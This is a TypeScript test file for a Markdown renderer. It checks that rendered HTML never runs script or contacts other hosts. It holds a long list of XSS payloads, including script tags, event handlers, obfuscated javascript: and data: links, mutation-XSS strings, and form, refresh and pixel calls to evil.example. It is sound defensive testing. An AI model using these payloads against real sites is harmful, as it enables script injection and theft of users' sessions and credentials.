/** Renders friendly and hostile Markdown. In the resulting HTML, nothing runs or contacts other hosts. */
import { type HTMLElement, NodeType, parse } from 'node-html-parser'
import { describe, expect, test } from 'vitest'
import { firstSentenceOf, plainTextOf, renderMarkdown } from '../../src/lib/markdown.ts'

const TAGS = 'p br hr h2 h3 h4 h5 h6 blockquote pre code ul ol li strong em a'.split(' ')

/** Returns everything in the markup that Markdown must not produce. */
function breaches(markup: string): string[] {
  const found: string[] = []
  const visit = (element: HTMLElement): void => {
    for (const child of element.childNodes) {
      if (child.nodeType === NodeType.COMMENT_NODE) found.push('a comment')
      if (child.nodeType !== NodeType.ELEMENT_NODE) continue
      const one = child as HTMLElement
      const name = one.rawTagName.toLowerCase()
      if (!TAGS.includes(name)) found.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(one.attributes)) {
        const isLink = name === 'a' && (attribute === 'href' || attribute === 'rel')
        if (!isLink && !(name === 'ol' && attribute === 'start')) found.push(`${name} ${attribute}`)
        // Browsers ignore tabs and line breaks in a scheme, and control characters and spaces before it.
        const bare = value.replace(/[\p{Cc}\s]/gu, '')
        if (attribute === 'href' && !/^(?:https?:\/\/|mailto:)/i.test(bare)) found.push(`href ${value}`)
      }
      if (name === 'a' && one.getAttribute('href') !== undefined && !one.getAttribute('rel')?.includes('noopener')) {
        found.push('a link without rel')
      }
      visit(one)
    }
  }
  visit(parse(markup, { comment: true, blockTextElements: {} }))
  return found
}

const JS = 'javascript:alert(1)'
const hostile = [
  // Elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext>',
  '<custom-element onclick=alert(1)>',
  '<h1>Pretends to be the title</h1>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href=https://ok.example target=_blank ping=//evil.example>x</a>',
  // Comments, declarations and unclosed markup
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '</div></article></main><script>alert(1)</script>',
  '<div',
  '<a href="',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<<script>alert(1)//<</script>',
  '\\<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  // Entities
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;script&amp;gt;',
  // Links
  `[x](${JS})`,
  `[x](<${JS}>)`,
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](javascript%3Aalert(1))',
  '[x](\\javascript:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://board.example/1)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/sign-out)',
  '[x](https:evil)',
  '[x](https://ok.example" onclick="alert(1))',
  '[x](https://ok.example "title" onclick="alert(1)")',
  "[x](https://ok.example '\"><script>alert(1)</script>')",
  `[x][1]\n\n[1]: ${JS}`,
  `[${'<img src=x onerror=alert(1)>'}](https://ok.example)`,
  `[a [b](${JS}) c](${JS})`,
  `[a](https://ok.example [b](${JS}))`,
  `<${JS}>`,
  '<data:text/html,x>',
  '<https://ok.example/"onmouseover="alert(1)>',
  '<a@b.example"onclick=alert(1)>',
  // Images
  '![x](https://evil.example/pixel.png)',
  `![x](${JS})`,
  '![x" onerror="alert(1)](x)',
  '![<script>alert(1)</script>](x)',
  '[![x](https://evil.example/pixel.png)](javascript:alert(1))',
  // Code and other blocks
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\nx\n```',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '# x {onclick=alert(1)}',
  '> <iframe src=//evil.example>',
  '- <style>@import "//evil.example"</style>',
  '1" onclick="alert(1). x',
  '***<b onclick=alert(1)>x</b>***',
  '|<script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|y|',
]

describe('hostile text', () => {
  test('has at least 60 examples', () => {
    expect(new Set(hostile).size).toBeGreaterThanOrEqual(60)
  })

  test.each(hostile)('is harmless: %j', (text) => {
    for (const around of [text, `Before\n\n${text}\n\nAfter`, `**${text}**`, `> - ${text}`]) {
      expect(breaches(renderMarkdown(around)), around).toEqual([])
    }
  })

  test('is checked by code that detects unsafe markup', () => {
    const bad = '<p onclick="x"><script></script><a href="java\tscript:x">y</a><!-- z --><img src="x"></p>'
    expect(breaches(bad)).toEqual([
      'p onclick',
      '<script>',
      'href java\tscript:x',
      'a link without rel',
      'a comment',
      '<img>',
      'img src',
    ])
  })

  test('shows raw HTML as text, and keeps only the text of unsafe links and of images', () => {
    expect(renderMarkdown('a <b>bold</b> <!-- c -->')).toBe('<p>a &lt;b&gt;bold&lt;/b&gt; &lt;!-- c --&gt;</p>\n')
    expect(renderMarkdown(`See [the **site**](${JS}).`)).toBe('<p>See the <strong>site</strong>.</p>\n')
    expect(renderMarkdown('![A cat](cat.png)')).toBe('<p>A cat</p>\n')
  })

  test('with more than 2,000 lines is shown as plain paragraphs', () => {
    const text = `- a\n${'b\n'.repeat(1_998)}`
    expect(renderMarkdown(text)).toContain('<li>')
    expect(renderMarkdown(`${text}\n`)).not.toContain('<li>')
  })

  const LENGTH = 50_000
  const fill = (piece: string) => piece.repeat(LENGTH / piece.length)
  test.each<[string, string]>([
    ['quotes', '>'.repeat(LENGTH)],
    ['lists', fill('- ')],
    ['lists in quotes', fill('> - ')],
    ['indented lists', Array.from({ length: 300 }, (_, n) => `${' '.repeat(n)}- a`).join('\n')],
    ['emphasis', '*a '.repeat(LENGTH / 6) + 'b* '.repeat(LENGTH / 6)],
    ['emphasis without text', '*'.repeat(LENGTH)],
    ['emphasis, alternating', fill('*a **a _a __a ')],
    ['brackets', '['.repeat(LENGTH / 2) + ']'.repeat(LENGTH / 2)],
    ['links', fill('[a](')],
    ['images', fill('![')],
    ['elements', fill('<div>')],
    ['comments', fill('<!--')],
    ['code', Array.from({ length: 300 }, (_, n) => '`'.repeat(n)).join(' ')],
    ['entities', fill('&')],
    ['references', `[a]: https://x.example\n\n${fill('[a]')}`],
    ['definitions', fill('[a]: b\n')],
    ['list items', fill('- a\n')],
    ['headings', fill('a\n---\n')],
    ['lines in lists', `${'- '.repeat(8)}a\n${fill('b\n')}`],
  ])('with many %s is rendered within three seconds', (_what, text) => {
    const start = performance.now()
    expect(
      breaches(
        renderMarkdown(text)
          .slice(0, 20_000)
          .replace(/<[^>]*$/, ''),
      ),
    ).toEqual([])
    // Rendering usually takes at most a fifth of this limit. The rest allows for a busy machine.
    expect(performance.now() - start).toBeLessThan(3_000)
  })
})

describe('CommonMark', () => {
  test.each([
    ['Two\nlines', '<p>Two<br />lines</p>'],
    ['• One\n• *Two*', '<p>• One<br />• <em>Two</em></p>'],
    ['Pay:\n\n    50,000 *gross*', '<p>Pay:</p>\n<p>    50,000 <em>gross</em></p>'],
    ['Hard  \nbreak', '<p>Hard<br />break</p>'],
    ['# First\n## Second', '<h2>First</h2>\n<h2>Second</h2>'],
    ['### *Third*', '<h3><em>Third</em></h3>'],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'],
    ['First\n===\n- a\n  ===', '<h2>First</h2>\n<ul>\n<li>a<br />===</li>\n</ul>'],
    ['> quoted', '<blockquote>\n<p>quoted</p>\n</blockquote>'],
    ['```js\na < b\n```', '<pre><code>a &lt; b\n</code></pre>'],
    ['a\n\n---\n\nb', '<p>a</p>\n<hr />\n<p>b</p>'],
    ['`1 & 2`', '<p><code>1 &amp; 2</code></p>'],
    ['1 < 2 & "3"', '<p>1 &lt; 2 &amp; "3"</p>'],
  ])('%j', (text, expected) => {
    expect(renderMarkdown(text).trim()).toBe(expected)
  })

  test.each([
    ['[x](https://x.example/?a=1&b=2)', 'https://x.example/?a=1&amp;b=2'],
    ['<https://x.example/>', 'https://x.example/'],
    ['[x](mailto:a@b.example)', 'mailto:a@b.example'],
    ['<a@b.example>', 'mailto:a@b.example'],
    ['[x][1]\n\n[1]: http://x.example', 'http://x.example'],
  ])('%j is a link', (text, href) => {
    expect(renderMarkdown(text)).toContain(`<a href="${href}" rel="noopener noreferrer nofollow ugc">`)
  })

  test('is shown as plain paragraphs with all of its text if it is nested too deeply', () => {
    const text = `Before <b>\n\n${'> '.repeat(9)}deep`
    expect(renderMarkdown(text)).toBe(`<p>Before &lt;b&gt;</p>\n<p>${'&gt; '.repeat(9)}deep</p>`)
    expect(renderMarkdown(`${'> '.repeat(8)}deep`)).toContain('<blockquote>')
  })
})

test('plain text has no Markdown syntax, and is truncated', () => {
  expect(plainTextOf('## Tasks\n\n- **Plan** & [build](https://x.example)\n- <b>', 100)).toBe('Tasks Plan & build <b>')
  expect(plainTextOf('word '.repeat(3), 14)).toBe('word word word')
  expect(plainTextOf('word '.repeat(100), 17)).toBe('word word word…')
  // Only the first 80 characters of the text are read. Because of the URLs, they contain only three words.
  expect(plainTextOf('[word](https://x.example) '.repeat(9), 40)).toBe('word word word…')
  expect(plainTextOf('求人'.repeat(9), 10)).toBe('求人求人求人求人求…')
  expect(plainTextOf('🚗'.repeat(9), 8)).toBe('🚗🚗🚗…')
})

test.each([
  ['Vans. More vans.', 'Vans.'],
  ['# Who we are\n\nWe *build* vans & [buses](https://a.example)! And trams.', 'We build vans & buses!'],
  ['- Vans\n- Buses', 'Vans Buses'],
  ['電気バンを作っています。工場は大阪です。', '電気バンを作っています。'],
  ['No full stop', 'No full stop'],
  [`${'word '.repeat(20)}end.`, 'word word word word word word…'],
  ['<script>alert(1)</script>', '<script>alert(1)</script>'],
  [' ', ''],
])('the first sentence of %j is %j', (text, sentence) => {
  expect(firstSentenceOf(text, 32)).toBe(sentence)
})
